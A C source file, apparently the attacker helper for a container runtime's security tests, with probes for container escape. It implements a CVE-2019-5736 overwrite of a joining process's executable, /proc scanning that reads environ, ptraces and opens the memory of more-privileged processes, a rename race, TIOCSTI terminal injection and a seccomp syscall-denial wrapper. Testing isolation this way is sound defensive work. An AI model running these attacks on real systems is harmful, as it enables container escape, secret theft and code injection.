/* The hostile side of tests/security: what a process in a container, or one that shares a volume with
 * it, does; and the seccomp wrapper that makes an old kernel of this one.  Static, one file.
 *
 *	attack exchange A B             swap two names for ever
 *	attack poll SECONDS             open what /proc shows of every process that is not ours
 *	attack overwrite SECONDS        CVE-2019-5736: write to the executable of whoever joins
 *	attack deny CALL ERRNO CMD...   execute CMD with a system call that fails
 *	attack tiocsti                  push a line into the controlling terminal
 *	attack foreign i386|x32         sched_yield(2) as another architecture calls it (x86-64 only)
 *	attack wait                     do nothing, with as few system calls as can be
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int exchange(const char *a, const char *b)
{
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0)
			return 1;
}

/* -- /proc/PID of those who join ------------------------------------------------------------- */

static char proc[64];

static const char *file(const char *name)
{
	static char path[512];

	snprintf(path, sizeof(path), "%s/%s", proc, name);
	return path;
}

/* Say what could be done; the test decides what of it is a breach. */
static void got(const char *what, int fd)
{
	char link[32], target[256] = "?";
	struct stat st = { 0 };

	if (fd < 0)
		return;
	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	ssize_t n = readlink(link, target, sizeof(target) - 1);

	target[n > 0 ? n : 1] = 0;
	fstat(fd, &st);
	printf("%s %s dev=%lu ino=%lu mode=%o %s\n", proc + 6, what, (unsigned long)st.st_dev, (unsigned long)st.st_ino,
	       st.st_mode, target);
	close(fd);
}

static void try_descriptors(void)
{
	char name[300];
	DIR *dir = opendir(file("fd"));
	struct dirent *entry;

	while (dir && (entry = readdir(dir))) {
		if (entry->d_name[0] == '.')
			continue;
		snprintf(name, sizeof(name), "fd/%s", entry->d_name);
		/* O_PATH: a socket or a pipe that blocks must not stop us, and a directory is enough */
		got(name, open(file(name), O_PATH));
	}
	if (dir)
		closedir(dir);
}

/* The rights of the process that is looked at; those of a thief would be these. */
static int excess(unsigned long long mine)
{
	char text[2048] = "", *line;
	int fd = open(file("status"), O_RDONLY);

	if (fd < 0)
		return 0;
	if (read(fd, text, sizeof(text) - 1) < 0)
		text[0] = 0;
	close(fd);
	line = strstr(text, "CapPrm:");
	return line && (strtoull(line + 7, NULL, 16) & ~mine) != 0;
}

/* That of a process that ends can be opened: a program of the container's own is no prey, and a sealed one only
 * when a byte goes into it, the one that is there. */
static void try_executable(void)
{
	char link[32], target[8] = "", byte;
	int fd = open(file("exe"), O_RDWR);

	if (fd < 0)
		return;
	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	if (readlink(link, target, 5) > 0 && strcmp(target, "/bin/") && pread(fd, &byte, 1, 0) == 1 &&
	    pwrite(fd, &byte, 1, 0) == 1)
		got("exe-write", fd);
	else
		close(fd);
}

static void try_all(pid_t pid, unsigned long long mine)
{
	static char block[256];
	int fd;

	if (excess(mine) && ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
		printf("%d ptrace of a process with more rights\n", pid);
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	try_executable();
	got("root", open(file("root"), O_PATH));
	got("cwd", open(file("cwd"), O_PATH));
	if (excess(mine)) {
		fd = open(file("mem"), O_RDWR);
		/* nothing is mapped at 1, which is an error; 0: older kernels open the memory of the dead, which is none */
		if (fd >= 0 && pread(fd, block, 1, 1) == 0)
			close(fd);
		else
			got("mem of a process with more rights", fd);
	}
	fd = open(file("environ"), O_RDONLY);
	if (fd >= 0 && read(fd, block, sizeof(block) - 1) > 0)
		printf("%d environ %s\n", pid, block);
	if (fd >= 0)
		close(fd);
	try_descriptors();
}

static unsigned long long my_permitted(void)
{
	char text[2048] = "";
	int fd = open("/proc/self/status", O_RDONLY);

	if (fd < 0 || read(fd, text, sizeof(text) - 1) < 0)
		exit(2);
	close(fd);
	return strtoull(strstr(text, "CapPrm:") + 7, NULL, 16);
}

/* By number, newest first: readdir(3) of /proc takes longer than a joining process is there. */
static int poll_all(double seconds)
{
	double end = now() + seconds;
	unsigned long long mine = my_permitted();
	struct stat st;
	pid_t first = getpid() + 1, last = first;

	setvbuf(stdout, NULL, _IOLBF, 0);
	puts("polling");
	while (now() < end && stat("/stop", &st) < 0) {
		for (pid_t pid = last + 8; pid >= first && pid > last - 8; pid--) {
			snprintf(proc, sizeof(proc), "/proc/%d", pid);
			if (stat(proc, &st) < 0)
				continue;
			if (pid > last)
				last = pid;
			try_all(pid, mine);
		}
	}
	printf("seen up to %d\n", last);
	return 0;
}

/* Hold the executable of each newcomer from its first moment; it can be opened for writing when it
 * runs no more.  Pids of the namespace come one after the other: the next one is waited for. */
static int overwrite(double seconds)
{
	static int held[4096];
	int n = 0, fd;
	double end = now() + seconds;
	struct stat st;
	pid_t next = getpid() + 1;

	setvbuf(stdout, NULL, _IOLBF, 0);
	puts("polling");
	for (unsigned long turn = 0; n < 4096; turn++) {
		/* some may have been missed: without a processor for a while it does not see who comes and goes */
		pid_t pid = next + (turn % 16 == 15 ? (pid_t)(1 + turn / 16 % 256) : 0);

		snprintf(proc, sizeof(proc), "/proc/%d/exe", pid);
		fd = open(proc, O_PATH);
		if (fd >= 0) {
			if (n == 0)
				puts("holding");
			held[n++] = fd;
			next = pid + 1;
		}
		if (turn % 256 == 0 && (now() > end || stat("/stop", &st) == 0))
			break;
	}
	for (int i = 0; i < n; i++) {
		snprintf(proc, sizeof(proc), "/proc/self/fd/%d", held[i]);
		char exe[16] = "";

		if (readlink(proc, exe, 5) < 0 || !strcmp(exe, "/bin/"))
			continue; /* a program of the container */
		fd = open(proc, O_WRONLY | O_APPEND);
		got("exe-write", fd >= 0 ? dup(fd) : -1);
		if (fd >= 0 && write(fd, "stolen", 6) == 6)
			puts("written");
	}
	printf("held %d\n", n);
	return 0;
}

/* -- a kernel that lacks a call -------------------------------------------------------------- */

static int deny(long call, int error, char **command)
{
	struct sock_filter filter[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, (unsigned)call, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | (unsigned)error),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = { sizeof(filter) / sizeof(filter[0]), filter };

	if (geteuid() != 0)
		prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0); /* without it a filter is root's alone */
	if (prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog) < 0) {
		perror("attack: seccomp");
		return 2;
	}
	execv(command[0], command);
	perror("attack: exec");
	return 2;
}

static int push(void)
{
	int fd = open("/dev/tty", O_RDWR);

	printf("tty %s\n", fd < 0 ? strerrorname_np(errno) : "open");
	for (int in = 0; in < 3; in++)
		for (const char *p = "echo stolen\n"; *p; p++)
			if (ioctl(in, TIOCSTI, p) == 0)
				puts("pushed");
	return 0;
}

#ifdef __x86_64__
static int foreign(int x32)
{
	long result = 158;

	if (x32)
		result = syscall(0x40000000 + SYS_sched_yield);
	else
		__asm__ volatile("int $0x80" : "+a"(result));
	printf("r %ld\n", result);
	return 0;
}
#endif

int main(int argc, char **argv)
{
	const char *verb = argc > 1 ? argv[1] : "";

	if (!strcmp(verb, "exchange") && argc == 4)
		return exchange(argv[2], argv[3]);
	if (!strcmp(verb, "poll") && argc == 3)
		return poll_all(atof(argv[2]));
	if (!strcmp(verb, "overwrite") && argc == 3)
		return overwrite(atof(argv[2]));
	if (!strcmp(verb, "deny") && argc > 4)
		return deny(atol(argv[2]), atoi(argv[3]), argv + 4);
	if (!strcmp(verb, "wait"))
		return (int)syscall(SYS_pause);
	if (!strcmp(verb, "tiocsti"))
		return push();
#ifdef __x86_64__
	if (!strcmp(verb, "foreign") && argc == 3)
		return foreign(!strcmp(argv[2], "x32"));
#endif
	fprintf(stderr, "attack: what is %s?\n", verb);
	return 2;
}
